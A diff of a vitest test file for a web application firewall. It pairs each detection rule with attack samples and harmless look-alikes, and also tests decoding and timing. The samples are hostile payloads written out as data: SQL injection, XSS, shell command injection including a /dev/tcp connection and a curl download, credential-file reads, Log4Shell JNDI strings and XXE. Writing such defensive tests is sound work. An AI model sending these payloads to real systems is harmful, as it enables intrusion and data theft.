@@ -1,75 +1,124 @@
-// Every WAF rule on an attack it is for and on a harmless text that looks a little like it.
+// The WAF's detectors, pure: every rule on an attack it is for and on harmless text that looks a
+// little like it (prose, code in a forum post), the issue's examples, the decoders, and the cost
+// of adversarial input (no detector may take more than linear time).
 import { describe, expect, it } from 'vitest';
-import { ATTACK_RULES, decodedForms, inspect, protocolFinding, SCANNER_RULES } from '../../src/edge/waf/inspect.ts';
+import { decodedForms, percentDecode } from '../../src/edge/waf/decode.ts';
+import { ATTACK_RULES, inspect, protocolFinding } from '../../src/edge/waf/inspect.ts';
+import { requestInputs } from '../../src/edge/waf/inputs.ts';
 
-/** rule id → [an input it must match, an input it must not]. */
-const SAMPLES: Record<number, [string, string]> = {
-  942100: ["1 union all select password from users", 'the union was a great select of people'],
-  942110: ['1 and sleep(15)', 'I need sleep (lots)'],
-  942120: ['(select top 1 name from sysusers)', '(select one) from the list'],
-  942130: ["1'; drop table users", 'done; drop by tomorrow'],
-  942140: ['exec master.dbo.xp_cmdshell', 'the master bedroom'],
-  942150: ["admin' or 'a'='a", "D'or 1st parfume"],
-  942160: ['id=5 and 12=12', 'chapter 12 and 12 more'],
-  942170: ["extractvalue(1,concat(0x7e,version()))", 'extract the value'],
-  942180: ["admin'-- ", "it's -- so they say"],
-  942190: ['select name from users where id=1', 'select the rows from the table'],
-  941100: ['<script>alert(1)</script>', 'a script for the play'],
-  941110: ['<x onmouseover=alert(1)>', 'only=1337 on the list'],
-  941120: ['javascript:alert(1)', 'JavaScript: Basics of JavaScript Language'],
-  941130: ['<img src=x>', 'an img of the source'],
-  941140: ['alert(document.domain)', 'an alert was raised'],
-  941150: ['document.cookie', 'a document about cookies'],
-  941160: ["setInterval('ale'+'rt(1)')", 'set an interval'],
-  941170: ["'-alert(1)//", "it's alert"],
-  932100: ['; cat /etc/hosts', 'cat and dog'],
-  932110: ['$(id)', 'costs $ 5 (each)'],
-  932120: ['() { :; }; echo', '() {} empty'],
-  932130: ['/bin/bash -c id', 'the bin is bashed'],
-  932140: ['--exec=`id`', 'exec noun'],
-  932150: ['!!python/object/new:exec', 'python objects'],
-  930100: ['../../etc/passwd', 'one..two'],
-  930110: ['/etc/shadow', 'etc and shadows'],
-  930120: ['\\\\host\\c$\\windows', 'c$ money'],
-  930130: ['php://filter/resource=index', 'php filter tips'],
-  934100: ['<!--#exec cmd="ls" -->', '<!-- a comment -->'],
-  934110: ['{{1337*1338}}', '{{ name }}'],
-  934120: ['<!DOCTYPE x [ <!ENTITY y SYSTEM "file:///etc/passwd"> ]>', '<!doctype html>'],
-  934130: ['*(|(objectclass=*))', '(a) and (b)'],
-  934140: ["true, $where: '1 == 1'", 'where is the $ sign'],
-  921110: ['\r\nRCPT TO: a@evil.example\r\n', 'rcpt to me please'],
-  921100: ['a\r\nSet-Cookie: x=1', 'a set-cookie header'],
+/** rule id → [inputs it must be found in, inputs nothing may be found in] (as query values). */
+const SAMPLES: Record<number, [string[], string[]]> = {
+  942100: [['1 union all select password from users', '-1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3'], ['the union was a great select of people', 'trade union select committee']],
+  942110: [["1; waitfor delay '0:0:5'--", '1 and sleep(15)'], ['I need sleep (8 hours)', 'sleep (lots)']],
+  942120: [['(select top 1 name from sysusers)', "1'+(select 1 from dual)+'"], ['(select one) from the list', '(select an option from the menu)']],
+  942130: [["1'; drop table users--", '3; declare @c varchar(255)'], ['done; drop by tomorrow', 'it is late; select the best one']],
+  942140: [['exec master.dbo.xp_cmdshell', 'x from information_schema.tables'], ['the master bedroom', 'the idv_msdb database']],
+  942150: [["admin' or 'a'='a", '1 AND substring(version(),1,1)=5'], ["D'or 1st parfume", "O'Reilly or Wiley=good publishers"]],
+  942160: [['1 OR 2>1', "admin'or(1)=(1)-- -"], ['chapter 12 and 12 more', '1) a-b=c']],
+  942170: [['extractvalue(1,concat(0x7e,version()))', 'updatexml(1,concat(0x7e,user()),1)'], ['extract the value', 'concat the strings']],
+  942180: [["admin'-- ", "admin'#"], ["it's -- so they say", '"#1 best seller"']],
+  942190: [["1' ORDER BY 5-- -", "1' group by 2"], ["I'd like to order by phone", 'sort by 5']],
+  941100: [['<script>alert(1)</script>', '<svg/onload=alert(1)>'], ['a script for the play', 'h2<h1']],
+  941110: [['<button autofocus onfocusin=print()>', '" onwheel=x()'], ['only=1337 on the list', 'set onload in the config']],
+  941120: [['javascript:alert(1)', '<a href="jav&#x09;ascript:x()">'], ['JavaScript: Basics of JavaScript Language', 'Learn JavaScript: a guide (2nd edition)']],
+  941130: [['"><b>', "'><p>"], ['<b>bold</b> and <i>italic</i>', 'if (a < b && c > d) return;']],
+  941140: [['alert(document.domain)', 'confirm.call(null,1)'], ['an alert was raised', 'use print(x) in python']],
+  941150: [['x=document.cookie', '__proto__[admin]=1'], ['a document about cookies', 'the constructor of the house']],
+  941160: [["setInterval('ale'+'rt(1)')", 'eval("x")'], ['set an interval', 'evaluate it']],
+  941170: [['";fetch(x)//', "'-alert(1)//"], ["it's alert", 'see (page 2)']],
+  932100: [['x;{curl,-o,/tmp/s,http://h/}', '; cat /etc/hosts'], ['cat and dog', 'Set the table\nType your name']],
+  932110: [['$(id)', 'a=`whoami`'], ['costs $ 5 (each)', 'run `ls -la` to see the files']],
+  932120: [['() { :; }; echo', '() { x; }; id'], ['() {} empty', 'f() { return 1 }']],
+  932130: [['cat</dev/tcp/192.0.2.1/80', '/bin/bash -c id'], ['the bin is bashed', 'my /bin folder']],
+  932140: [['x --upload-pack=touch /tmp/p', '-oProxyCommand=id'], ['exec noun', 'the --upload flag']],
+  932150: [["__import__('os').system('id')", 'Runtime.getRuntime().exec("id")'], ['python objects', 'the system (of record)']],
+  930100: [['../../etc/x', '..%c0%af..%c0%afboot'], ['one..two', 'use ../lib for that']],
+  930110: [['/etc/shadow', 'c:\\windows\\win.ini'], ['etc and shadows', 'the windows system']],
+  930120: [['\\\\host\\c$\\windows', '\\\\::1\\c$\\users'], ['c$ money', 'a \\ b']],
+  930130: [['php://filter/resource=index', 'expect://id'], ['php filter tips', 'https://example.org/']],
+  934100: [['<!--#exec cmd="ls" -->', '<!--#include virtual="/x"-->'], ['<!-- a comment -->', '#include <stdio.h>']],
+  934110: [['{{7*7}}', '${T(java.lang.Runtime).getRuntime()}'], ['{{ name }}', 'price ${ amount }']],
+  934120: [['<!DOCTYPE x [ <!ENTITY y SYSTEM "file:///etc/passwd"> ]>', '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/x"/></x>'], ['<!doctype html>', '<?xml version="1.0"?><a>b</a>']],
+  934130: [['*)(uid=*))(|(uid=*', '(&(uid=admin)(|(a=b)))'], ['(a) and (b)', 'f(x)(y)']],
+  934140: [['{"user": {"$ne": null}}', 'db.users.find({})'], ['where is the $ sign', 'I have $100']],
+  944150: [['${jndi:ldap://x/a}', '${${lower:j}${::-n}di:ldap://x}'], ['${name}', '${ price }']],
+  921110: [['x\r\nRCPT TO: a@example.org', '\r\nQUIT\r\n'], ['rcpt to me please', 'quit\nsmoking']],
+  921100: [['a\r\nSet-Cookie: x=1', '%e5%98%8dset-cookie:x'], ['a set-cookie header', 'line one\r\nline two']],
 };
 
+const found = (value: string, level = 1) => inspect('GET', `/?q=${encodeURIComponent(value)}`, {}, undefined, { waf_level: level });
+
 describe('WAF rules', () => {
-  it('has a sample for every rule', () => {
+  it('has samples for every rule', () => {
     expect(ATTACK_RULES.map((r) => r.id).filter((id) => !(id in SAMPLES))).toEqual([]);
   });
 
   for (const rule of ATTACK_RULES) {
     it(`${rule.id} ${rule.description}`, () => {
-      const [attack, harmless] = SAMPLES[rule.id]!;
-      expect(decodedForms(attack).some((f) => rule.pattern.test(f)), attack).toBe(true);
-      expect(decodedForms(harmless).some((f) => rule.pattern.test(f)), harmless).toBe(false);
-      // Plain text (letters, digits, - _ . /) is tried against the plain rules only: a rule whose
-      // attack is plain text must be one.
-      for (const form of decodedForms(attack)) if (/^[a-z0-9\-_./]*$/.test(form) && rule.pattern.test(form)) expect(rule.plain, form).toBe(true);
+      const [attacks, harmless] = SAMPLES[rule.id]!;
+      // The first sample is this rule's own; later ones may be found by another rule first.
+      expect(found(attacks[0]!), attacks[0]).toMatchObject({ rule: rule.id });
+      for (const attack of attacks) expect(found(attack), attack).toBeDefined();
+      for (const text of harmless) expect(found(text), text).toBeUndefined();
     });
   }
 
-  it('913100 scanner user agents', () => {
-    const [rule] = SCANNER_RULES;
-    expect(rule!.pattern.test('sqlmap/1.7.2#stable (https://sqlmap.org)'.toLowerCase())).toBe(true);
-    expect(rule!.pattern.test('mozilla/5.0 (x11; linux x86_64) applewebkit/537.36 headlesschrome/120.0')).toBe(false);
+  it("catches the issue's examples", () => {
+    for (const example of ['1 OR 2>1', '1 AND substring(version(),1,1)=5', 'admin\'or(1)=(1)-- -', "1' ORDER BY 5-- -", '-1 /*!50000UNION*/ /*!50000SELECT*/ 1,2', '<button autofocus onfocusin=print()>', 'x;{curl,-o,/tmp/s,http://h/}']) {
+      expect(found(example), example).toBeDefined();
+    }
+    expect(inspect('GET', '/app/..;/manager/html', {})).toMatchObject({ rule: 930100, where: 'path' });
   });
 
-  it('decodes what attackers encode: percent (twice), entities, NUL, base64', () => {
-    expect(inspect('GET', '/?q=%253Cscript%253E', {})).toMatchObject({ rule: 941100 });
-    expect(inspect('GET', '/?q=%26lt%3Bscript%26gt%3B', {})).toMatchObject({ rule: 941100 });
-    expect(inspect('GET', `/?q=${Buffer.from("' union select 1,2").toString('base64')}`, {})).toMatchObject({ class: 'sqli' });
-    expect(inspect('POST', '/', { 'content-type': 'application/json' }, Buffer.from(JSON.stringify({ a: { b: ['<svg onload=alert(1)>'] } })))).toMatchObject({ class: 'xss', where: 'body' });
-    expect(inspect('GET', '/articles/2024/how-to-select-a-union?page=2&sort=date', { cookie: 'session=abc123; theme=dark' })).toBeUndefined();
-    expect(inspect('POST', '/comment', { 'content-type': 'application/x-www-form-urlencoded' }, Buffer.from('text=Line+one%0D%0ALine+two'))).toBeUndefined();
+  it('leaves ordinary prose alone', () => {
+    for (const text of ['select a size from the list below', 'I need sleep (8 hours) after this', '"#1 best seller"', 'Set the alarm\nType your PIN', 'Use `select * from t` to see it', 'Tom & Jerry; cat lovers unite', 'union members select their leaders from a list', 'Is 2>1? Yes, and 3>2.']) {
+      expect(found(text), text).toBeUndefined();
+    }
+  });
+
+  it('decodes %XX byte by byte: an invalid UTF-8 byte does not hide the rest', () => {
+    expect(percentDecode('%FF1%27%20UNION')).toBe("\ufffd1' UNION");
+    expect(percentDecode('%c0%ae%c0%ae%2f')).toBe('../');
+    expect(inspect('GET', "/?id=%FF1'%20UNION%20SELECT%20password%20FROM%20users--", {})).toMatchObject({ class: 'sqli' });
+    expect(decodedForms('%253Cscript%253E')).toContain('<script>');
+    expect(decodedForms('&lt;svg/onload&equals;alert(1)&gt;')).toContain('<svg/onload=alert(1)>');
+    expect(decodedForms('\\u003cscript\\u003e')).toContain('<script>');
+  });
+
+  it('decodes base64 at level 2 only', () => {
+    const encoded = Buffer.from("1' union select password from users--").toString('base64');
+    expect(found(encoded, 1)).toBeUndefined();
+    expect(found(encoded, 2)).toMatchObject({ class: 'sqli' });
+  });
+
+  it('joins repeated parameters (",", as ASP.NET does, and concatenated)', () => {
+    expect(inspect('GET', "/?id=1'%20UNION/*&id=*/SELECT%20password%20FROM%20users--", {})).toMatchObject({ class: 'sqli', where: 'query id (repeated)' });
+    expect(inspect('GET', '/?q=%3Cscr&q=ipt%20src=//x%3E', {})).toMatchObject({ class: 'xss', where: 'query q (repeated)' });
+  });
+
+  it('reads headers but a short list: cookie names, Accept-Language, Content-Type parameters, Authorization, X-*, Sec-*', () => {
+    const where = (headers: Record<string, string>) => inspect('GET', '/', headers)?.where;
+    expect(where({ cookie: "x' union select password from users--=1" })).toBe('cookie name');
+    expect(where({ 'accept-language': "en' union select password from users--" })).toBe('header accept-language');
+    expect(where({ accept: 'text/html, <script>alert(1)</script>' })).toBe('header accept');
+    expect(where({ 'content-type': 'text/plain; charset="${jndi:ldap://x/a}"' })).toBe('header content-type');
+    expect(where({ authorization: "Basic ' or 1=1--" })).toBe('header authorization');
+    expect(where({ 'x-anything': '; cat /etc/passwd' })).toBe('header x-anything');
+    expect(where({ 'sec-ch-ua': '<svg onload=alert(1)>' })).toBe('header sec-ch-ua');
+    expect(requestInputs('/', { 'if-none-match': '"x"', 'cache-control': 'no-cache' })).toEqual([{ where: 'path', value: '/', path: true }]);
+  });
+
+  it('passes ordinary browser requests', () => {
+    const headers = {
+      'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
+      accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
+      'accept-language': 'en-US,en;q=0.9,de;q=0.8',
+      'sec-ch-ua': '"Not_A Brand";v="8", "Chromium";v="120", "Google Chrome";v="120"',
+      'sec-ch-ua-platform': '"Windows"',
+      referer: 'https://shop.example/search?q=red+shoes&page=2',
+      cookie: '_ga=GA1.2.1234567890.1700000000; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc; theme=dark',
+    };
+    expect(inspect('GET', '/articles/2024/how-to-select-a-union?page=2&sort=date', headers)).toBeUndefined();
   });
 
   it('protocol checks: methods, encoding, NUL, framing', () => {
@@ -79,5 +128,19 @@ describe('WAF rules', () => {
     expect(protocolFinding('POST', '/', { 'content-length': '1', 'transfer-encoding': 'chunked' }, 3)).toMatchObject({ status: 400 });
     expect(protocolFinding('GET', `/${'a'.repeat(9000)}`, {}, 2)).toMatchObject({ status: 414 });
     expect(protocolFinding('GET', '/ok?x=%41', {}, 2)).toBeUndefined();
+  });
+
+  it('costs linear time on adversarial input (64 KiB of what each detector backtracks on)', () => {
+    const k = 64 * 1024;
+    const inputs = [
+      "'".repeat(k), '/*'.repeat(k / 2), '<a '.repeat(k / 3), 'on'.repeat(k / 2) + '=', '${'.repeat(k / 2), '{{'.repeat(k / 2), ';'.repeat(k), '`'.repeat(k), '../'.repeat(k / 3),
+      '('.repeat(k), 'union '.repeat(k / 6), 'sleep '.repeat(k / 6), '<!--'.repeat(k / 4), '%'.repeat(k), '&#'.repeat(k / 2), '\\u'.repeat(k / 2), "'+'".repeat(k / 3), 'a=1&'.repeat(k / 4), "1' or ".repeat(k / 6),
+      '<x '.repeat(k / 3) + 'onx', '"\'"'.repeat(k / 3), '$ifs'.repeat(k / 4), '{a,'.repeat(k / 3), '\n'.repeat(k), 'javascript:'.repeat(k / 11), 'select '.repeat(k / 7),
+    ];
+    for (const input of inputs) {
+      const started = performance.now();
+      inspect('POST', '/', { 'content-type': 'text/plain' }, [{ where: 'body', value: input, body: true }], { waf_level: 4 });
+      expect(performance.now() - started, input.slice(0, 12)).toBeLessThan(250);
+    }
   });
 });
